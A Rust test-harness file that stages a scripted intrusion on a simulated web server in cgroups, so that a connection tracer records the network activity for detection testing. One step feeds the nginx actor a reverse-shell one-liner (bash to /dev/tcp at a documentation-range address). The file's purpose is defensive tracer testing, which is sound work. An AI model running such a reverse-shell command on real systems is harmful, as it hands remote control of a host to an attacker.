//! Where it is played, and in which order.

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::Ipv4Addr,
    os::unix::process::CommandExt as _,
    process::{Child, ChildStdout, Command, Stdio},
    time::Duration,
};

use anyhow::{Context as _, ensure};
use nix::sys::signal::Signal;
use tracer_core::text::hex;
use tracer_tests::{
    cgroup::Cgroup,
    device::{bring_up, set_address},
    signals,
};

/// What is recorded.
const RECORDING: &str = "/tmp/intrusion.rec";
/// The container whose job fetches a script.
const CONTAINER: &str = "4f5e0c1a9d3b7e62881f0a6c5d2e9b74c3f1a8e05d6b9274e8c1f3a05b7d9e62";
/// What Docker would write of it.
const CONTAINERS_STATE: &str =
    r#"{"Name": "/nightly-report", "Config": {"Image": "registry.example/report:1.4"}}"#;
/// What stands for the internet: the networks of documentation.
const INTERNET: &str = "192.0.2.0/24,198.51.100.0/24,203.0.113.0/24";
/// Of the loopback device, with all of their networks: that of the web server, and some for everybody else.
const ADDRESSES: [Ipv4Addr; 4] = [
    Ipv4Addr::new(10, 0, 0, 5),
    Ipv4Addr::new(192, 0, 2, 254),
    Ipv4Addr::new(198, 51, 100, 254),
    Ipv4Addr::new(203, 0, 113, 254),
];
/// Who is who on the web server.
const FILES: [(&str, &str); 3] = [
    (
        "/etc/passwd",
        "root:x:0:0::/:\nwww-data:x:33:33::/:\nalice:x:1000:1000::/:\napp:x:1001:1001::/:\n",
    ),
    (
        "/etc/hosts",
        "198.51.100.10 updates.example\n10.0.0.20 db1.internal\n",
    ),
    (
        "/etc/services",
        "ssh 22/tcp\ndomain 53/udp\nhttp 80/tcp\nhttps 443/tcp\npostgresql 5432/tcp\n",
    ),
];
/// All of them are this program.
const PROGRAMS: [&str; 8] = [
    "/usr/bin/outside",
    "/usr/bin/bash",
    "/usr/bin/curl",
    "/usr/bin/ssh",
    "/usr/bin/python3",
    "/usr/sbin/nginx",
    "/usr/sbin/sshd",
    "/usr/sbin/update-agent",
];
/// Bytes of the recording in a line of the console.
const LINE: usize = 512;

/// Plays the whole of it, and prints the recording, in lines of hexadecimal digits behind `data: `.
pub fn stage() -> anyhow::Result<bool> {
    furnish()?;
    let outside = ["/outside", "/usr/bin/outside"];
    let mut outside = Actor::enter(outside, &[], None)?;
    let nginx = ["/system.slice/nginx.service", "/usr/sbin/nginx"];
    let mut nginx = Actor::enter(nginx, &["-g", "daemon off;"], None)?;
    let sshd = ["/system.slice/ssh.service", "/usr/sbin/sshd"];
    let _sshd = Actor::enter(sshd, &["-D"], None)?;
    let tracer = record()?;
    outside.does("open")?;
    let app = ["/system.slice/app.service", "/usr/bin/python3"];
    let _app = Actor::enter(app, &["/srv/app/main.py"], None)?;
    let agent = [
        "/system.slice/update-agent.service",
        "/usr/sbin/update-agent",
    ];
    let _agent = Actor::enter(agent, &[], None)?;
    let job = [
        &format!("/system.slice/docker-{CONTAINER}.scope"),
        "/usr/bin/python3",
    ];
    let mut job = Actor::enter(job, &["job.py"], None)?;
    outside.does("customers")?;
    outside.does("administrator")?;
    let session = [
        "/user.slice/user-1000.slice/session-3.scope",
        "/usr/bin/bash",
    ];
    Actor::enter(session, &["-l"], Some(1000))?.end()?;
    outside.does("break-in")?;
    nginx.does("bash -i >& /dev/tcp/203.0.113.66/4443 0>&1")?;
    pause(9);
    job.does("fetch")?;
    outside.does("customers")?;
    pause(8);
    outside.does("back-door")?;
    outside.does("customers")?;
    pause(14);
    end(tracer)?;
    print()
}

/// What the programs need: addresses, names and files.
fn furnish() -> anyhow::Result<()> {
    nix::unistd::sethostname("web1")?;
    bring_up("lo")?;
    for (alias, address) in ADDRESSES.into_iter().enumerate() {
        set_address(&format!("lo:{alias}"), address)?;
    }
    for (path, text) in FILES {
        fs::write(path, text)?;
    }
    for directory in ["/usr/bin", "/usr/sbin"] {
        fs::create_dir_all(directory)?;
    }
    for path in PROGRAMS {
        fs::copy("/init", path)?;
    }
    let state = format!("/var/lib/docker/containers/{CONTAINER}");
    fs::create_dir_all(&state)?;
    fs::write(format!("{state}/config.v2.json"), CONTAINERS_STATE)?;
    Ok(())
}

/// A program with a part.
struct Actor {
    child: Child,
    lines: BufReader<ChildStdout>,
    /// Stays while it plays.
    _cgroup: Cgroup,
}

impl Actor {
    /// Starts one in a cgroup, and waits until it is ready. `login`: of whose session it is.
    fn enter(
        [cgroup, program]: [&str; 2],
        words: &[&str],
        login: Option<u32>,
    ) -> anyhow::Result<Self> {
        let cgroup = Cgroup::new(cgroup);
        fs::write(format!("{}/cgroup.procs", cgroup.directory()), "0")?;
        let mut command = Command::new(program);
        if let Some(uid) = login {
            // The machine may have no audit.
            let _ = fs::write("/proc/self/loginuid", uid.to_string());
            command.uid(uid).gid(uid);
        }
        let child = command
            .args(words)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn();
        fs::write("/sys/fs/cgroup/cgroup.procs", "0")?;
        let mut child = child.with_context(|| format!("cannot start {program}"))?;
        let stdout = child.stdout.take().context("no stdout")?;
        let mut actor = Self {
            child,
            lines: BufReader::new(stdout),
            _cgroup: cgroup,
        };
        if login.is_none() {
            actor.hear()?;
        }
        Ok(actor)
    }

    /// Has it do something, and waits until that is done.
    fn does(&mut self, what: &str) -> anyhow::Result<()> {
        let stdin = self.child.stdin.as_mut().context("no stdin")?;
        writeln!(stdin, "{what}")?;
        self.hear()
    }

    fn hear(&mut self) -> anyhow::Result<()> {
        let mut line = String::new();
        ensure!(self.lines.read_line(&mut line)? > 0, "an actor has left");
        Ok(())
    }

    /// Waits until it has done what it does.
    fn end(mut self) -> anyhow::Result<()> {
        ensure!(self.child.wait()?.success(), "an actor has failed");
        Ok(())
    }
}

/// Starts to record what the host sees.
fn record() -> anyhow::Result<Child> {
    let mut tracer = Command::new("/conntracer")
        .args(["--record", RECORDING, "--record-selected"])
        .args(["--not-cgroup", "/outside"])
        .args(["--external-cidr", INTERNET])
        .args(["--udp-idle", "10s", "--update-interval", "10s"])
        .args(["-o", "json"])
        .stdout(Stdio::piped())
        .spawn()
        .context("cannot start conntracer")?;
    let mut lines = BufReader::new(tracer.stdout.take().context("no stdout")?);
    let mut line = String::new();
    // The web server was there before.
    while !line.contains("\"existing\"") {
        line.clear();
        ensure!(lines.read_line(&mut line)? > 0, "conntracer traces nothing");
    }
    // What it goes on to write is of no use here.
    std::thread::spawn(move || std::io::copy(&mut lines, &mut std::io::sink()));
    Ok(tracer)
}

fn end(mut tracer: Child) -> anyhow::Result<()> {
    signals::send(tracer.id(), Signal::SIGTERM);
    let status = tracer.wait()?;
    ensure!(status.success(), "conntracer ended with {status}");
    Ok(())
}

/// Nothing but the console leads out of the machine.
fn print() -> anyhow::Result<bool> {
    for line in fs::read(RECORDING)?.chunks(LINE) {
        println!("data: {}", hex(line));
    }
    Ok(true)
}

fn pause(seconds: u64) {
    std::thread::sleep(Duration::from_secs(seconds));
}
